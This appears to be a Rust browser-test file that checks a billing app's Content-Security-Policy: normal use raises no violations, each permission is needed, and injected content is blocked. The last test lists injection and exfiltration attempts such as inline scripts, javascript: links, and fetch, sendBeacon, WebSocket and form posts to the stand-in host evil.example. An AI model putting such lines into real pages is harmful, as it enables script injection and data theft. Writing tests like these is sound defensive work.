//! The Content-Security-Policy of the page: all that the app does is allowed, nothing else is, and it allows nothing
//! that the app does not need. Every other story also fails when the policy is broken (`stage`).

use std::path::Path;

use sandbox::Demo;
use serde_json::json;

use crate::harness::driver::Logs;
use crate::harness::requests::ReceivedRequests;
use crate::harness::site::{SiteCopy, dist};
use crate::harness::stage::{play, story};
use crate::harness::user::User;

/// The page with another API base than the sandbox's, as soon as it has one.
const ELSEWHERE: &str = "new MutationObserver(() =>
    document.querySelector('meta[name=altostrat-api-base]')?.setAttribute('content', 'https://v1.api.altostrat.io')
).observe(document, { childList: true, subtree: true })";

#[tokio::test]
async fn creating_and_editing_breaks_no_rule() {
    story(async |user| {
        let unbroken = async || user.expect("window.violations", json!([])).await;
        user.goto("/").await;
        user.sign_in(Demo::Owner).await;
        user.follow("Northwind Operations").await;
        user.see("No billing account yet").await;
        unbroken().await;
        user.follow("New billing account").await;
        user.press("Create billing account").await;
        user.see("There is a problem").await;
        unbroken().await;
        user.fill("Name", "Karoo Broadband").await;
        user.fill("Email", "billing@karoo.example.com").await;
        user.choose("Country", "South Africa").await;
        user.press("Create billing account").await;
        user.see("Billing account created").await;
        user.press("Copy id").await;
        unbroken().await;
        user.follow("Edit").await;
        user.fill("Name", "Karoo Broadband (EU)").await;
        user.press("Save changes").await;
        user.see("Billing account updated").await;
        unbroken().await;
        user.press("Sign out").await;
        user.see_heading("Sign in").await;
        unbroken().await;
        assert_eq!(user.sandbox.posts().len(), 1);
        user.expect("performance.getEntriesByType('navigation').length", 1).await;
    })
    .await;
}

/// A directive that loses its last source stays: it allows nothing then.
fn page_without(permission: &str, page: &str) -> String {
    let (before, after) = page.split_once(permission).unwrap_or_else(|| panic!("the policy has {permission}"));
    let directive = permission.find("-src").map_or("", |end| &permission[..end + "-src".len()]);
    format!("{before}{directive}{after}")
}

/// What a page does whose policy lacks a permission.
async fn fails(user: &User, index: &Path, page: &str, permission: &str, rule: &str, words: &str) {
    std::fs::write(index, page_without(permission, page)).expect("the page is written");
    user.goto("/").await;
    let broken =
        format!("window.violations.some(violation => violation.startsWith('securitypolicyviolation: {rule}'))");
    user.expect(&broken, true).await;
    if !words.is_empty() {
        user.see(words).await;
        user.expect("!!control('Token')", false).await;
    }
}

/// A permission that can go without being missed is one too many.
#[tokio::test]
async fn every_permission_is_needed() {
    let copy = SiteCopy::of_dist();
    let index = copy.file("index", ".html");
    let page = std::fs::read_to_string(&index).expect("the page is read");
    play(copy.folder(), Logs::Console, async |user| {
        let (index, page) = (index.as_path(), page.as_str());
        fails(user, index, page, "script-src 'self'", "script-src-elem", "").await;
        fails(user, index, page, " 'wasm-unsafe-eval'", "script-src", "This browser cannot run Altostrat Billing")
            .await;
        fails(user, index, page, "style-src 'self'", "style-src-elem", "Altostrat Billing could not be loaded").await;
        fails(user, index, page, "connect-src 'self'", "connect-src", "Altostrat Billing could not be loaded").await;
        fails(user, index, page, "img-src data:", "img-src", "").await;

        user.run_before_each_page(ELSEWHERE).await;
        std::fs::write(index, page).expect("the page is written");
        user.goto("/").await;
        user.sign_in(Demo::Owner).await;
        user.see("Try again").await;
        user.expect("window.violations", json!([])).await;
        std::fs::write(index, page_without(" https://v1.api.altostrat.io", page)).expect("the page is written");
        user.goto("/").await;
        user.sign_in(Demo::Owner).await;
        user.expect("window.violations[0]", "securitypolicyviolation: connect-src").await;
        assert!(user.sandbox.requests().is_empty());
    })
    .await;
}

/// What somebody who gets markup or a script line into the page still cannot do: each line of it, and the rule that
/// stops it.
#[tokio::test]
async fn what_is_smuggled_in_does_not_run_and_calls_nobody() {
    let attempts = [
        ("script-src-elem", "add('script').textContent = 'window.ran = 1'"),
        ("script-src-elem", "add('script').src = 'https://evil.example/x.js'"),
        ("script-src-elem", "add('script').src = 'data:text/javascript,window.ran = 1'"),
        ("script-src-attr", "add('p').setAttribute('onclick', 'window.ran = 1')"),
        ("script-src-elem", "add('a', { href: 'javascript:window.ran = 1' }).click()"),
        ("style-src-elem", "add('style').textContent = 'body { display: none }'"),
        ("style-src-attr", "add('p').setAttribute('style', 'color: red')"),
        ("img-src", "add('img').src = 'https://evil.example/?x'"),
        ("img-src", "add('img').src = '/?x'"),
        ("connect-src", "fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => {})"),
        ("connect-src", "navigator.sendBeacon('https://evil.example/', 'x')"),
        ("connect-src", "new WebSocket('wss://evil.example/')"),
        ("frame-src", "add('iframe').src = 'https://evil.example/'"),
        ("base-uri", "add('base').href = 'https://evil.example/'"),
        ("form-action", "add('form', { action: 'https://evil.example/' }).submit()"),
        ("object-src", "add('object').data = 'https://evil.example/'"),
        ("font-src", "new FontFace('x', 'url(https://evil.example/x)').load().catch(() => {})"),
        ("media-src", "add('audio').src = 'https://evil.example/'"),
        ("worker-src", "try { new Worker('data:text/javascript,0') } catch {}"),
    ];
    play(dist(), Logs::Console, async |user| {
        user.goto("/").await;
        user.see_heading("Sign in").await;
        for (rule, attempt) in attempts {
            let script = format!(
                "const add = (name, more) => {{ const element = Object.assign(document.createElement(name), more);
                    document.body.append(element); return element; }};
                window.violations.length = 0;
                {attempt};"
            );
            user.client.execute(&script, Vec::new()).await.unwrap_or_else(|error| panic!("{attempt}: {error}"));
            let stopped = format!(
                "window.violations.includes('securitypolicyviolation: {rule}') || JSON.stringify([{}, window.violations])",
                json!(attempt)
            );
            user.expect(&stopped, true).await;
        }
        user.expect("window.ran === undefined", true).await;
        user.see_heading("Sign in").await;
    })
    .await;
}
